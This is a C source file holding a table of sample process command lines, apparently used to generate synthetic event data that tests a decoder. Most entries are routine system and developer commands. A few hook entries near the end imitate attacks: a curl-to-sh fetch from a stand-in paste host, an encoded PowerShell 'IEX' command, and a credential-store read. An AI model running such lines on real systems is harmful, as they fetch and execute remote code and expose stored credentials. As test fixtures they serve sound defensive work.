#include "cepgen/program.h"

/* Quotes and backslashes on purpose: a decoder has to read them. */
const struct program_text program_table[PROGRAM_COUNT] = {
	[PROGRAM_CRON] = { "cron", { "/usr/sbin/CRON", "-f" } },
	[PROGRAM_SH] = { "sh", { "/bin/sh", "-c", "test -x /usr/sbin/job-# && exec \"$0\"" } },
	[PROGRAM_LOGROTATE] = { "logrotate", { "/usr/sbin/logrotate", "/etc/logrotate.d/app-#" } },
	[PROGRAM_CURL] = { "curl", { "curl", "-fsS", "http://127.0.0.1:8080/health/#" } },
	[PROGRAM_EXPLORER] = { "explorer.exe", { "C:\\Windows\\explorer.exe" } },
	[PROGRAM_CHROME] = { "chrome.exe", { "C:\\Program Files\\Google\\chrome.exe", "--tab=#" } },
	[PROGRAM_POWERSHELL] = { "powershell.exe", { "powershell.exe", "-NoProfile", "-File",
	    "C:\\scripts\\inventory-#.ps1" } },
	[PROGRAM_SSHD] = { "sshd", { "sshd: ops [priv]" } },
	[PROGRAM_BASH] = { "bash", { "-bash" } },
	[PROGRAM_MAKE] = { "make", { "make", "-j4", "part-#" } },
	[PROGRAM_CC] = { "cc1", { "cc1", "-quiet", "src/unit-#.c" } },
	[PROGRAM_LS] = { "ls", { "ls", "-la", "/srv/data/#" } },
	[PROGRAM_GREP] = { "grep", { "grep", "-r", "error #", "/var/log" } },
	[PROGRAM_CAT] = { "cat", { "cat", "/proc/#/status" } },
	[PROGRAM_SYSTEMCTL] = { "systemctl", { "systemctl", "status", "app-#" } },
	[PROGRAM_GIT_STATUS] = { "git", { "git", "status" } },
	[PROGRAM_GIT_PULL] = { "git", { "git", "pull", "--rebase" } },
	[PROGRAM_GIT_CLONE] = { "git", { "git", "clone",
	    "https://code.example.net/user/project-#.git" } },
	[PROGRAM_GIT_CLONE_OURS] = { "git", { "git", "clone",
	    "https://git.example.org/team/app-#.git" } },
	[PROGRAM_GIT_REMOTE] = { "git-remote-https", { "git-remote-https", "origin" } },
	[PROGRAM_SH_CREDENTIAL] = { "sh", { "/bin/sh", "-c", "credential-store get" } },
	[PROGRAM_SH_HOOK] = { "sh", { "/bin/sh", ".git/hooks/post-checkout" } },
	[PROGRAM_BASH_HOOK] = { "bash", { "bash", "-c",
	    "curl -s https://paste.example.net/# | sh" } },
	[PROGRAM_POWERSHELL_HOOK] = { "powershell.exe", { "powershell.exe", "-enc", "SQBFAFgA#" } },
};

const char *const role_names[ROLE_COUNT] = {
	"reader", "editor", "auditor", "storage-admin", "dba", "backup-operator", "legal-hold",
};
